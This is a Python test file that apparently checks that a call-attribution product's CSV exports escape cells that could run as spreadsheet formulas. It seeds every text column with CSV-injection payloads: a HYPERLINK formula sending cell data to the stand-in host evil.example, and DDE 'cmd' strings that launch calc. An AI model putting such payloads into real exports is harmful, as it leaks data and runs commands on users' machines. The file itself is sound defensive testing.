"""No cell of any CSV callpath writes can become a spreadsheet formula (CSV injection).

Generic on purpose: every text column each CSV producer writes is seeded, in the database,
with a value starting with each of ``= + - @ TAB CR``, and no cell of the output may start
with one of them unless it is escaped (a leading ``'``) or is inert (a number or a phone
number: ``+`` or ``-`` then digits, ``.`` and ``*``, as docs/exports.md says). A column
added to an export later fails :func:`test_every_export_column_is_covered` until it is
seeded here or named as not text.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import httpx
import pytest

from attribution import conversions as conv
from attribution.exports import LONG_COLUMNS, WIDE_COLUMNS, ExportFilter, stream_paths
from backend.settings import Settings
from backend.storage import SQLiteDatabase
from tests.api.conftest import World, add_pages, jst_ms
from tests.support.server import run_cli

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
DANGER = frozenset(PREFIXES)
# What a spreadsheet reads as a number (or an E.164 / masked caller), never a formula.
INERT = re.compile(r"[+-][0-9][0-9.*]*")
NOV = ExportFilter(start_ms=jst_ms(2026, 11, 1), end_ms=jst_ms(2026, 12, 1))

# Export column -> (table, column) it is read from.
SEEDED = {
    "provider": ("calls", "provider"),
    "status": ("calls", "status"),
    "caller": ("calls", "caller"),
    "tracking_number": ("calls", "tracking_number"),
    "forwarded_to": ("calls", "forwarded_to"),
    "match_method": ("calls", "match_method"),
    "match_confidence": ("calls", "match_confidence"),
    "match_reason": ("calls", "match_reason"),
    "code_digits": ("calls", "code_digits"),
    "code_kind": ("calls", "code_kind"),
    # The call's flow: menu choices, who answered, the voicemail's link.
    "menu_path": ("calls", "menu_path"),
    "answered_by": ("calls", "answered_by"),
    "voicemail_url": ("calls", "voicemail_url"),
    # Written by people working the call: its outcome's name and its tags.
    "outcome": ("call_outcomes", "label"),
    "outcome_suggested": ("call_outcomes", "label"),  # the machine's, beside it
    "tags": ("call_tags", "tag"),
    "provider_call_id": ("calls", "provider_call_id"),
    # The touch that led to the call is frozen on the call (attribution.touch).
    **{
        name: ("calls", f"touch_{name}")
        for name in (
            "channel source medium campaign ad_group keyword match_type landing_url referrer"
            " gclid gbraid wbraid yclid fbclid msclkid"
        ).split()
    },
    **{name: ("sessions", name) for name in "device browser os country region city".split()},
    "url": ("page_views", "url"),
    "title": ("page_views", "title"),
    "path": ("page_views", "url"),
}
# Numbers, flags and times callpath computes itself.
NOT_TEXT = {
    "call_id",
    "started_at",
    "duration_s",
    "talk_s",
    "qualified",
    "first_time",
    "qualified_by_hand",
    "outcome_kind",  # one of three fixed words
    "outcome_suggested_by",  # rules or model
    "value_yen",
    "queue_wait_s",
    "match_candidates",
    "match_candidate_ids",  # session ids, read from a JSON list of integers
    "advertiser_id",
    "site_id",
    "session_id",
    "session_started_at",
    "page_count",
    "step",
    "viewed_at",
}


def payload(prefix: str, column: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?"&A1,"{column}")+cmd|\' /C calc\'!A0'


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not (cell[:1] in DANGER and not INERT.fullmatch(cell)), (cell, row)


async def seed(db: SQLiteDatabase, world: World, prefix: str) -> None:
    """Every seeded column of the Google call, its session and a page view: payloads."""
    call, session = world.calls["google"], world.sessions["google"]
    async with db.write() as tx:
        for table, key, ident in (("calls", "calls", call), ("sessions", "sessions", session)):
            columns = sorted({c for t, c in SEEDED.values() if t == key})
            sets = ", ".join(f"{c} = :{c}" for c in columns)
            values = {c: payload(prefix, c) for c in columns}
            await tx.execute(f"UPDATE {table} SET {sets} WHERE id = :id", {**values, "id": ident})
        # The outcome and the tag people gave the call.
        outcome = await tx.fetchval(
            "INSERT INTO call_outcomes (advertiser_id, label, kind, created_ms)"
            " VALUES (:a, :l, 'lost', 0) RETURNING id",
            {"a": world.advertiser_id, "l": payload(prefix, "label")},
        )
        await tx.execute(
            "UPDATE calls SET outcome_id = :o, outcome_suggested_id = :o WHERE id = :id",
            {"o": outcome, "id": call},
        )
        await tx.execute(
            "INSERT INTO call_tags (call_id, tag) VALUES (:c, :t)",
            {"c": call, "t": payload(prefix, "tag")},
        )
    # The first page of the path, so the wide form's path cell starts with it.
    await add_pages(
        db,
        session,
        [(jst_ms(2026, 11, 10, 9, 0), payload(prefix, "url"), payload(prefix, "title"))],
    )


def test_every_export_column_is_covered() -> None:
    assert set(WIDE_COLUMNS) | set(LONG_COLUMNS) == set(SEEDED) | NOT_TEXT


@pytest.mark.parametrize("prefix", PREFIXES)
async def test_paths_export_escapes_every_text_column(
    db: SQLiteDatabase, world: World, prefix: str
) -> None:
    await seed(db, world, prefix)
    for form in ("wide", "long"):
        for show in (False, True):
            chunks = [c async for c in stream_paths(db, NOV, form=form, show_callers=show)]
            rows = list(csv.reader(io.StringIO(b"".join(chunks).decode())))
            assert_no_formula(rows)
            header, body = rows[0], rows[1:]
            row = dict(zip(header, body[0], strict=True))  # the Google call, its first page
            assert row["call_id"] == str(world.calls["google"])
            for column in header:
                if column in NOT_TEXT:
                    continue
                expected = "'" + payload(prefix, SEEDED[column][1])
                # Escaped, not otherwise changed (the path continues after its first page).
                assert row[column].startswith(expected), column


async def test_paths_export_leaves_numbers_and_phone_numbers_alone(
    db: SQLiteDatabase, world: World
) -> None:
    await db.execute(
        "UPDATE calls SET touch_keyword = '-5', touch_campaign = '+1.5' WHERE id = :c",
        {"c": world.calls["google"]},
    )
    await db.execute(
        "UPDATE sessions SET city = '-' WHERE id = :s", {"s": world.sessions["google"]}
    )
    chunks = [c async for c in stream_paths(db, NOV, show_callers=True)]
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    row = next(r for r in rows if r["call_id"] == str(world.calls["google"]))
    assert (row["keyword"], row["campaign"], row["city"]) == ("-5", "+1.5", "'-")
    assert row["caller"] == "+819012345678" and row["tracking_number"] == "+815017000001"
    masked = [c async for c in stream_paths(db, NOV)]
    assert b"+81******5678" in b"".join(masked)


@pytest.mark.parametrize("prefix", PREFIXES)
async def test_paths_api_escapes_every_text_column(
    client: httpx.AsyncClient, db: SQLiteDatabase, world: World, prefix: str
) -> None:
    await seed(db, world, prefix)
    for form in ("wide", "long"):
        r = await client.get(
            f"/api/exports/paths?form={form}&start=2026-11-01&end=2026-11-30",
            headers=world.auth(),
        )
        assert r.status_code == 200
        rows = list(csv.reader(io.StringIO(r.text)))
        assert_no_formula(rows)
        assert any(cell.startswith("'" + prefix) for row in rows for cell in row)


@pytest.mark.parametrize("prefix", PREFIXES)
async def test_conversion_files_escape_every_text_column(
    db: SQLiteDatabase, world: World, prefix: str
) -> None:
    # Stored past the settings check (by an older version, or by hand).
    for platform in conv.FILE_PLATFORMS:
        await db.execute(
            "INSERT INTO conversion_settings (site_id, platform, conversion_name, value,"
            " currency, qualified_only, enabled, updated_ms)"
            " VALUES (:s, :p, :n, :v, :c, 1, 1, 0)",
            {
                "s": world.site_id,
                "p": platform,
                "n": payload(prefix, "name"),
                "v": prefix + "1+cmd|' /C calc'!A0",
                "c": prefix + "JPY",
            },
        )
    for platform in conv.FILE_PLATFORMS:
        f = await conv.export_conversions(
            db,
            platform=platform,
            start_ms=NOV.start_ms,
            end_ms=NOV.end_ms,
            now_ms=NOV.end_ms,
            site_id=world.site_id,
            record=False,
        )
        encoding = conv.YAHOO_ENCODING if platform == "yahoo" else "utf-8"
        rows = list(csv.reader(io.StringIO(f.content.decode(encoding))))
        assert f.count >= 1 and len(rows) == f.count + (1 if platform == "yahoo" else 2)
        assert_no_formula(rows)
        # Escaped, not otherwise changed: name, value and currency.
        for cell in (payload(prefix, "name"), prefix + "1+cmd|' /C calc'!A0", prefix + "JPY"):
            assert "'" + cell in rows[-1], platform


def test_a_conversion_name_that_would_need_escaping_is_refused() -> None:
    # The name must match the conversion action on the platform exactly: refused at the
    # door rather than written with the ' that keeps a spreadsheet from running it.
    for prefix in "=+-@":  # a leading tab or CR is stripped like any space
        with pytest.raises(ValueError, match="conversion_name"):
            conv.check_settings("google", conv.ConversionSettings(prefix + "Phone call"))


@pytest.mark.stores("sqlite")  # the CLI runs stream_paths / export_conversions, tested above
async def test_cli_exports_escape_every_text_column(
    db: SQLiteDatabase, world: World, settings: Settings, tmp_path: Path
) -> None:
    await seed(db, world, "=")
    await db.execute(
        "INSERT INTO conversion_settings (site_id, platform, conversion_name, value, currency,"
        " qualified_only, enabled, updated_ms) VALUES (:s, 'google', :n, '0', 'JPY', 1, 1, 0)",
        {"s": world.site_id, "n": payload("@", "name")},
    )
    url = settings.database_url
    # The session's gclid is a payload now (an old row): left out, with the reason.
    r = run_cli("export", "google", "--preview", database_url=url)
    assert r.returncode == 0, r.stderr
    assert "skipped 1 calls: click_id_invalid" in r.stderr
    assert "=HYPERLINK" not in r.stdout  # the gclid payload; the name is "@…", escaped
    # Give the call a clean one: the row is written, its name escaped.
    await db.execute(
        "UPDATE sessions SET gclid = 'Cj0KCQ-clean', gbraid = '', wbraid = '' WHERE id = :s",
        {"s": world.sessions["google"]},
    )
    texts: list[str] = []
    for what in ("paths", "google"):
        for form in ("wide", "long"):
            r = run_cli("export", what, "--form", form, "--preview", database_url=url)
            assert r.returncode == 0, r.stderr
            texts.append(r.stdout)
    for text in texts:
        rows = list(csv.reader(io.StringIO(text)))
        assert_no_formula(rows)
        assert any(cell.startswith("'=") or cell.startswith("'@") for row in rows for cell in row)


def test_no_csv_is_written_but_through_csvcells() -> None:
    # Every producer is tested above; a new one must go through attribution/csvcells.py
    # (csv_writer), which this finds out when it does not.
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(root))
        for package in ("pool", "attribution", "backend")
        for path in sorted((root / package).rglob("*.py"))
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["attribution/csvcells.py"]
